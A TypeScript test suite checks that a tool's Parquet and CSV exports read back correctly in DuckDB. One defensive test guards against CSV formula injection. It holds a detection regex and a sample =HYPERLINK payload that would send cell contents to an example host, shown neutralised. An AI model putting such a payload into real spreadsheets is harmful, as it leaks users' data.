import { DuckDBInstance } from "@duckdb/node-api";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { openCsv } from "../../src/export/csv.js";
import { openParquet } from "../../src/export/parquet.js";
import { makeFolder } from "../cli/run-program.js";
import { failedRecord, sampleRecords, writeFormat } from "./sample-records.js";

const records = [...(await sampleRecords()), failedRecord("zz")];
const claims = records.flatMap((record) => record.claims);
const mentions = records.flatMap((record) => record.mentions);

/** Asks DuckDB, a reader that has nothing to do with what wrote the files. */
async function query(files: ReadonlyMap<string, Buffer>, sql: (file: (name: string) => string) => string) {
  const folder = makeFolder(Object.fromEntries(files));
  const connection = await (await DuckDBInstance.create()).connect();
  const answer = await connection.runAndReadAll(sql((name) => `'${path.join(folder, name)}'`));
  return answer.getRowObjectsJson();
}

const parquet = await writeFormat({ load: () => Promise.resolve(openParquet) }, records);
const csv = await writeFormat({ load: () => Promise.resolve(openCsv) }, records);

describe("Parquet", () => {
  it("is read by DuckDB with every claim, its types and its letters", async () => {
    const rows = await query(parquet, (file) => `SELECT * FROM read_parquet(${file("claims.parquet")})`);
    expect(claims.length).toBeGreaterThan(4);
    expect(rows.map((row) => row["claim_id"])).toEqual(claims.map(({ id }) => id));
    for (const [index, row] of rows.entries()) {
      const { article } = records.find(({ article: { id } }) => id === claims[index].articleId) ?? failedRecord("none");
      const { source, content, confidence, places, quantities, stance, when, parent } = claims[index];
      expect(row).toMatchObject({
        title: article.title,
        outlet: article.outlet,
        author: article.author,
        speaker: source?.speaker.name ?? null,
        content: content.text,
        content_spans: content.spans.map(([start, end]) => ({ start, end })),
        source_spans: (source?.spans ?? []).map(([start, end]) => ({ start, end })),
        place_ids: places.map(({ id }) => id),
        quantities: quantities.map(({ text, value, unit }) => ({ text, value, unit })),
        when: when?.value ?? null,
        stance,
        confidence,
        parent,
      });
    }
  });

  it("types numbers, truths and lists", async () => {
    const sql = (name: string) => (file: (name: string) => string) =>
      `SELECT column_name AS name, column_type AS type FROM (DESCRIBE SELECT * FROM read_parquet(${file(name)}))`;
    const types = new Map(
      [...(await query(parquet, sql("claims.parquet"))), ...(await query(parquet, sql("mentions.parquet")))].map(
        (row) => [row["name"], row["type"]],
      ),
    );
    expect(types.get("content")).toBe("VARCHAR");
    expect(types.get("confidence")).toBe("DOUBLE");
    expect(types.get("start")).toBe("INTEGER");
    expect(types.get("metonymic")).toBe("BOOLEAN");
    expect(types.get("place_ids")).toBe("VARCHAR[]");
    expect(types.get("content_spans")).toContain("STRUCT");
  });

  it("holds the mentions, what they lack as nulls", async () => {
    const rows = await query(parquet, (file) => `SELECT * FROM read_parquet(${file("mentions.parquet")})`);
    expect(
      rows.map(({ text, type, place_id, lat, date, metonymic }) => ({ text, type, place_id, lat, date, metonymic })),
    ).toEqual(
      mentions.map((mention) => ({
        text: mention.text,
        type: mention.type,
        place_id: mention.type === "place" ? mention.id : null,
        lat: mention.type === "place" ? mention.lat : null,
        date: mention.type === "date" ? mention.value : null,
        metonymic: mention.type === "place" ? mention.metonymic : null,
      })),
    );
  });

  it("is one table however many rows there are, and empty where there are none", async () => {
    const many = Array.from({ length: 4000 }, () => records[0]);
    const files = await writeFormat({ load: () => Promise.resolve(openParquet) }, many);
    const [count] = await query(
      files,
      (file) =>
        `SELECT count(*)::INT AS rows, count(DISTINCT content)::INT AS contents FROM read_parquet(${file("claims.parquet")})`,
    );
    expect(count).toEqual({
      rows: many.length * records[0].claims.length,
      contents: new Set(records[0].claims.map(({ content }) => content.text)).size,
    });
    const none = await writeFormat({ load: () => Promise.resolve(openParquet) }, []);
    expect(await query(none, (file) => `SELECT * FROM read_parquet(${file("claims.parquet")})`)).toEqual([]);
  });
});

describe("CSV", () => {
  const read = (table: string) => (file: (name: string) => string) =>
    `SELECT * FROM read_csv(${file(table)}, header = true, all_varchar = true, quote = '"', escape = '"', delim = ',', nullstr = '', allow_quoted_nulls = false)`;

  it("is read by DuckDB with every claim, line ends and quotation marks in place", async () => {
    const rows = await query(csv, read("claims.csv"));
    expect(rows.map((row) => row["claim_id"])).toEqual(claims.map(({ id }) => id));
    expect(rows.map((row) => row["content"])).toEqual(claims.map(({ content }) => content.text));
    expect(rows.map((row) => row["speaker"])).toEqual(claims.map(({ source }) => source?.speaker.name ?? null));
    expect(rows.map((row) => Number(row["confidence"]))).toEqual(claims.map(({ confidence }) => confidence));
    expect(rows.map((row) => row["content_spans"])).toEqual(claims.map(({ content }) => JSON.stringify(content.spans)));
    expect(rows[0]["author"]).toBe("Նարե Գետակ\nნინო წყარო");
    expect(rows[0]["outlet"]).toBe("Хроника <Долины> & Co");
    const mentioned = await query(csv, read("mentions.csv"));
    expect(mentioned.map((row) => row["text"])).toEqual(mentions.map(({ text }) => text));
  });

  it("lets no text of an outlet run as a formula", async () => {
    const rows = await query(csv, read("claims.csv"));
    const shown = rows.flatMap((row) => Object.values(row)).filter((cell) => typeof cell === "string");
    expect(shown.filter((cell) => /^[=@\t\r＝＋－＠]|^[+-](?![\d.]+$)/.test(cell))).toEqual([]);
    expect(rows[0]["title"]).toBe(`'=HYPERLINK("https://example.org/?x="&A1,"Read")`);
    expect(rows.find((row) => row["article_id"] === "гора")?.["outlet"]).toBe("'-Ledger");
  });

  it("keeps numbers below zero numbers", async () => {
    const [record] = records;
    const place = record.mentions.find((mention) => mention.type === "place");
    if (place?.type !== "place") throw new Error("the sample names no place");
    const files = await writeFormat({ load: () => Promise.resolve(openCsv) }, [
      { ...record, mentions: [{ ...place, lat: -38.5, lon: -1.25 }] },
    ]);
    const [row] = await query(files, read("mentions.csv"));
    expect([row["lat"], row["lon"]]).toEqual(["-38.5", "-1.25"]);
  });

  it("begins with the byte-order mark by which Excel knows UTF-8, and ends lines as RFC 4180 says", () => {
    const file = csv.get("claims.csv") ?? Buffer.alloc(0);
    expect([...file.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(file.subarray(-2).toString()).toBe("\r\n");
  });
});
